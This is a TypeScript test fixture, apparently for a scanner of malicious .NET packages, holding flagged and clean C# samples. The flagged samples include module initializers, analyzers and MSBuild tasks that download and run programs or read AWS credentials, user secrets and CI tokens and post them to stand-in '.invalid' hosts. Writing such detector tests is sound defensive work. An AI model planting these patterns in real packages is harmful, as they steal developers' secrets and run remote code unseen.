import { csharp, roslynStub, type CSharp, type Examples } from '../../../tests/kit/examples.js';

/** Nobody sets it: what is below is read, never run. */
const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';

const usings = `using System;
using System.Diagnostics;
using System.IO;
using System.Net.Http;
using System.Runtime.CompilerServices;
using System.Threading.Tasks;
`;

function library(text: string): Record<string, CSharp> {
  return { 'lib/net10.0/Fixture.dll': csharp(usings + text) };
}

function analyzer(text: string): Record<string, CSharp> {
  const roslyn = 'using Microsoft.CodeAnalysis;\nusing Microsoft.CodeAnalysis.Diagnostics;\n';
  return { 'analyzers/dotnet/cs/Fixture.dll': csharp(usings + roslyn + text, roslynStub) };
}

const initializer = (body: string): string => `
internal static class Start
{
    [ModuleInitializer]
    internal static void Begin()
    {
        ${never}
        ${body}
    }
}`;

const taskStub = {
  'Microsoft.Build.Framework': `namespace Microsoft.Build.Framework
{
    public interface ITask { bool Execute(); }
}`,
};

function task(body: string): Record<string, string | CSharp> {
  return {
    'build/Fixture.Package.targets': `<Project>
  <UsingTask TaskName="Fixture.Prepare" AssemblyFile="$(MSBuildThisFileDirectory)../tasks/Fixture.dll" />
  <Target Name="PrepareFixture" BeforeTargets="Build"><Fixture.Prepare /></Target>
</Project>
`,
    'tasks/Fixture.dll': csharp(
      `${usings}
namespace Fixture
{
    public class Prepare : Microsoft.Build.Framework.ITask
    {
        public bool Execute() { Run(); return true; }
        private static void Run()
        {
            ${never}
            ${body}
        }
    }
}`,
      taskStub,
    ),
  };
}

export const examples: Examples = {
  flagged: [
    {
      name: 'initializer-drops',
      about:
        'A module initializer comes to a class that fetches a program, writes it and starts it.',
      level: 'malicious',
      files: library(`${initializer('Task.Run(() => Helper.Prepare(Path.GetTempFileName()));')}
internal static class Helper
{
    public static void Prepare(string path)
    {
        Save(path, new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/a").Result);
        Process.Start(path);
    }
    private static void Save(string path, byte[] bytes) => File.WriteAllBytes(path, bytes);
}`),
    },
    {
      name: 'initializer-sends-variables',
      about: 'A module initializer that reads all variables and posts.',
      files: library(
        initializer(`var all = Environment.GetEnvironmentVariables();
        new HttpClient().PostAsync("https://collect.fixture.invalid/a", new StringContent("" + all.Count));`),
      ),
    },
    {
      name: 'analyzer-asks-git',
      about: 'An analyzer that starts git and asks a server about what it said.',
      files: analyzer(`
[DiagnosticAnalyzer("C#")]
public class Ask : DiagnosticAnalyzer
{
    public override void Initialize(AnalysisContext context) =>
        context.RegisterCompilationAction(_ => Report());
    private static void Report()
    {
        ${never}
        var git = Process.Start("git", "config user.name");
        new HttpClient().GetStringAsync("https://sponsors.fixture.invalid/" + git.Id);
    }
}`),
    },
    {
      name: 'generator-reads-secrets',
      about: 'A generator that reads user secrets and writes them into the code it makes.',
      files: analyzer(`
[Generator]
public class Embed : IIncrementalGenerator
{
    public void Initialize(GeneratorContext context) =>
        context.Register(post => post.AddSource("A", "// " + Read()));
    private static string Read()
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);
        return File.ReadAllText(Path.Combine(home, "Microsoft/UserSecrets/fixture/secrets.json"));
    }
}`),
    },
    {
      name: 'task-takes-keys',
      about: 'A task that reads the keys of a cloud and posts.',
      files: task(`var keys = File.ReadAllText(".aws/credentials");
            new HttpClient().PostAsync("https://collect.fixture.invalid/a", new StringContent(keys));`),
    },
    {
      name: 'task-takes-tokens',
      about: 'A task that reads three tokens of a build server and posts.',
      files: task(`var all = "";
            foreach (var name in new[] { "SYSTEM_ACCESSTOKEN", "NUGET_API_KEY", "GITHUB_TOKEN" })
                all += Environment.GetEnvironmentVariable(name);
            new HttpClient().PostAsync("https://collect.fixture.invalid/a", new StringContent(all));`),
    },
    {
      name: 'initializer-patches',
      about: 'A module initializer that makes memory writable in which code lies.',
      files: library(`${initializer('Native.VirtualProtect(IntPtr.Zero, UIntPtr.Zero, 64, out _);')}
internal static class Native
{
    [System.Runtime.InteropServices.DllImport("kernel32.dll")]
    internal static extern bool VirtualProtect(IntPtr at, UIntPtr size, uint mode, out uint before);
}`),
    },
    {
      name: 'task-updates-itself',
      about: 'A task that fetches its program and starts it: held, since builders do so too.',
      files:
        task(`var bytes = new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/a").Result;
            File.WriteAllBytes("generate.exe", bytes);
            Process.Start("generate.exe");`),
    },
    {
      name: 'generator-starts',
      about: 'A generator that starts a program: noted.',
      level: 'note',
      files: analyzer(`
[Generator]
public class Version : IIncrementalGenerator
{
    public void Initialize(GeneratorContext context)
    {
        ${never}
        Process.Start("git", "describe");
    }
}`),
    },
  ],
  clean: [
    {
      name: 'reads-additional-files',
      about: 'An analyzer that reads the files which the compiler hands to it.',
      nearMiss: true,
      files: analyzer(`
[DiagnosticAnalyzer("C#")]
public class Read : DiagnosticAnalyzer
{
    public override void Initialize(AnalysisContext context) =>
        context.RegisterCompilationAction(each => Check(each.AdditionalFiles));
    private static int Check(string[] files)
    {
        var length = 0;
        foreach (var file in files) length += File.ReadAllText(file).Length;
        return length;
    }
}`),
    },
    {
      name: 'looks-for-secrets',
      about: 'An analyzer that warns of places of credentials in the code it sees, and reads none.',
      nearMiss: true,
      files: analyzer(`
[DiagnosticAnalyzer("C#")]
public class Warn : DiagnosticAnalyzer
{
    private static readonly string[] Places = { ".aws/credentials", "169.254.169.254" };
    public override void Initialize(AnalysisContext context) =>
        context.RegisterCompilationAction(each => Check(each.AdditionalFiles));
    private static bool Check(string[] texts) => Array.IndexOf(texts, Places[0]) >= 0;
}`),
    },
    {
      name: 'asked-by-the-caller',
      about: 'The same dropper without an initializer: somebody has to call it.',
      nearMiss: true,
      files: library(`
public static class Helper
{
    public static void Prepare(string path)
    {
        ${never}
        File.WriteAllBytes(path, new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/a").Result);
        Process.Start(path);
    }
}`),
    },
    {
      name: 'initializer-registers',
      about: 'A module initializer that registers something, beside a client that callers use.',
      nearMiss: true,
      files: library(`
internal static class Start
{
    internal static string Registered = "";
    [ModuleInitializer]
    internal static void Begin() => Registered = "fixture";
}
public static class Client
{
    public static Task<string> Ask() => new HttpClient().GetStringAsync("https://api.fixture.invalid/");
}`),
    },
    {
      name: 'task-asks-its-forge',
      about: 'A task that reads one token and asks the server it belongs to.',
      nearMiss: true,
      files: task(`var token = Environment.GetEnvironmentVariable("GITHUB_TOKEN");
            new HttpClient().GetStringAsync("https://forge.fixture.invalid/releases?" + token);`),
    },
    {
      name: 'task-starts-compiler',
      about: 'A task that starts the compiler which lies in the package.',
      nearMiss: true,
      files: task('Process.Start("tools/compile", "schema").WaitForExit();'),
    },
  ],
};
